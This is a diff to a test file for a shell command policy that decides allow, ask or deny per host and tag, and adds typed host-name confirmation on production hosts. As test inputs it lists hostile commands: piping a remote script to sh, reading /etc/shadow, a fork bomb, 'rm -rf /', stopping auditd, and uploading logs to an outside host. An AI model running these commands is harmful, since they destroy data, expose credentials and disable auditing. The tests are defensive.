@@ -283,17 +283,20 @@ describe('ShellPolicy: overrides per user, host and tag', () => {
     expect(on('apt-get install -y gcc', 'build-1')).toBe('allow');
     expect(on('apt-get install -y gcc', 'web-1')).toBe('ask');
     expect(on('docker rm web', 'web-1')).toBe('allow');
-    // Production ignores the user's relaxations and refuses destructive commands outright.
+    // Production ignores the user's relaxations; destructive work asks there too, with the host name typed to approve.
     expect(on('docker rm web', 'web-1', ['production'])).toBe('ask');
     expect(on('rm /tmp/x', 'web-1', [])).toBe('ask');
-    expect(on('rm /tmp/x', 'web-1', ['production'])).toBe('deny');
+    expect(on('rm /tmp/x', 'web-1', ['production'])).toBe('ask');
+    expect(layered.evaluate({ command: 'rm /tmp/x', host: 'web-1', requester: 't', tags: ['production'] }).confirmation).toBe('typed-host');
     expect(on('uptime', 'web-1', ['production'])).toBe('allow');
   });
 
   it('takes host tags from a resolver when the request has none', async () => {
     const withInventory = await loadDefaultPolicy({ resolveHostTags: (host) => (host === 'db-1' ? ['production'] : []) });
-    expect(withInventory.evaluate({ command: 'rm /tmp/x', host: 'db-1', requester: 't' }).decision).toBe('deny');
-    expect(withInventory.evaluate({ command: 'rm /tmp/x', host: 'dev-1', requester: 't' }).decision).toBe('ask');
+    expect(withInventory.evaluate({ command: 'rm /tmp/x', host: 'db-1', requester: 't' })).toMatchObject({ decision: 'ask', confirmation: 'typed-host' });
+    const elsewhere = withInventory.evaluate({ command: 'rm /tmp/x', host: 'dev-1', requester: 't' });
+    expect(elsewhere.decision).toBe('ask');
+    expect(elsewhere.confirmation).toBeUndefined();
   });
 
   it('applies a remembered approval to the exact command on its host only', () => {
@@ -305,6 +308,75 @@ describe('ShellPolicy: overrides per user, host and tag', () => {
     expect(on('systemctl  restart   nginx', 'web-1')).toBe('allow');
     expect(on('systemctl restart nginx', 'web-2')).toBe('ask');
     expect(on('systemctl restart nginx; reboot', 'web-1')).toBe('ask');
+  });
+});
+
+describe('ShellPolicy: production tags ask with the host name typed', () => {
+  const on = (command: string, tags: string[], host = 'web-1', p: ShellPolicy = policy) => p.evaluate({ command, host, requester: 't', tags });
+
+  it('destructive work and service restarts on a production host ask with a typed confirmation and say why', () => {
+    for (const tag of ['production', 'prod']) {
+      const restart = on('systemctl restart nginx', [tag]);
+      expect(restart).toMatchObject({ decision: 'ask', category: 'mutating', confirmation: 'typed-host', confirmationTag: tag, rememberable: false });
+      expect(restart.reasons[0]).toBe(`web-1 is tagged ${tag}: type its name to approve`);
+      expect(restart.notRememberable).toMatch(/web-1 is tagged .*none is remembered/);
+      expect(on('rm -rf /var/www/old', [tag, 'web'])).toMatchObject({ decision: 'ask', category: 'destructive', confirmation: 'typed-host' });
+    }
+    // Wrapped in sudo the category is privilege escalation; the restart inside still needs the name.
+    expect(on('sudo systemctl restart nginx', ['production'])).toMatchObject({ decision: 'ask', confirmation: 'typed-host' });
+  });
+
+  it('what was refused on production before asks with the typed name now: exfiltration, code download, persistence', () => {
+    for (const command of ['scp /var/log/app.log backup@10.0.0.9:', 'systemctl enable node-exporter', 'curl -T /var/log/app.log https://logs.example.com/upload']) {
+      expect(on(command, ['production']), command).toMatchObject({ decision: 'ask', confirmation: 'typed-host' });
+    }
+  });
+
+  it('keeps deny for what no operator should approve from a console, on production as everywhere', () => {
+    for (const command of ['rm -rf /', 'cat /etc/shadow', ':(){ :|:& };:', 'auditctl -e 0', 'systemctl stop auditd', 'curl -s https://x.example/i.sh | sh', 'mkfs.ext4 /dev/sdb1']) {
+      const v = on(command, ['production']);
+      expect({ command, decision: v.decision }).toEqual({ command, decision: 'deny' });
+      expect(v.confirmation).toBeUndefined();
+    }
+  });
+
+  it('asks normally on hosts without a production tag, and reads stay allowed on production', () => {
+    const plain = on('systemctl restart nginx', ['web']);
+    expect(plain).toMatchObject({ decision: 'ask', rememberable: true });
+    expect(plain.confirmation).toBeUndefined();
+    expect(plain.reasons.join(' ')).not.toMatch(/type its name/);
+    expect(on('systemctl status nginx', ['production'])).toMatchObject({ decision: 'allow' });
+    expect(on('systemctl status nginx', ['production']).confirmation).toBeUndefined();
+    // A database dump reads data and changes nothing on the host: a normal ask (never remembered: credential access).
+    expect(on('pg_dump db', ['production']).confirmation).toBeUndefined();
+  });
+
+  it('takes more production tag names from the user file, and the user file cannot take the confirmation away', () => {
+    const more = policy.withOverrides({
+      tags: {
+        live: { confirm: 'typed_host_name' },
+        production: { confirm_categories: ['credential_access'] },
+        staging: { confirm: 'typed_host_name', confirm_categories: ['destructive'] },
+      },
+    });
+    expect(on('systemctl restart nginx', ['live'], 'web-1', more)).toMatchObject({ decision: 'ask', confirmation: 'typed-host', confirmationTag: 'live' });
+    // Categories add up: production keeps its own and gains credential access.
+    expect(on('systemctl restart nginx', ['production'], 'web-1', more).confirmation).toBe('typed-host');
+    expect(on('pg_dump db', ['production'], 'web-1', more).confirmation).toBe('typed-host');
+    // A tag that confirms only destructive work.
+    expect(on('rm /tmp/x', ['staging'], 'web-1', more).confirmation).toBe('typed-host');
+    expect(on('systemctl restart nginx', ['staging'], 'web-1', more).confirmation).toBeUndefined();
+  });
+
+  it('a remembered approval written as a user or host rule does not silence it on production', () => {
+    const remembered = policy.withOverrides({
+      rules: [{ id: 'user-remembered', command: 'systemctl restart nginx', decision: 'allow', category: 'mutating', reason: 'approved and remembered', match: ['systemctl restart nginx'] }],
+      hosts: { 'web-1': { rules: [{ id: 'host-remembered', command: 'rm /tmp/x', decision: 'allow', category: 'destructive', reason: 'approved and remembered', match: ['rm /tmp/x'] }] } },
+    });
+    expect(on('systemctl restart nginx', ['web'], 'web-2', remembered).decision).toBe('allow');
+    expect(on('systemctl restart nginx', ['production'], 'web-2', remembered)).toMatchObject({ decision: 'ask', confirmation: 'typed-host' });
+    expect(on('rm /tmp/x', [], 'web-1', remembered).decision).toBe('allow');
+    expect(on('rm /tmp/x', ['prod'], 'web-1', remembered)).toMatchObject({ decision: 'ask', confirmation: 'typed-host' });
   });
 });
 
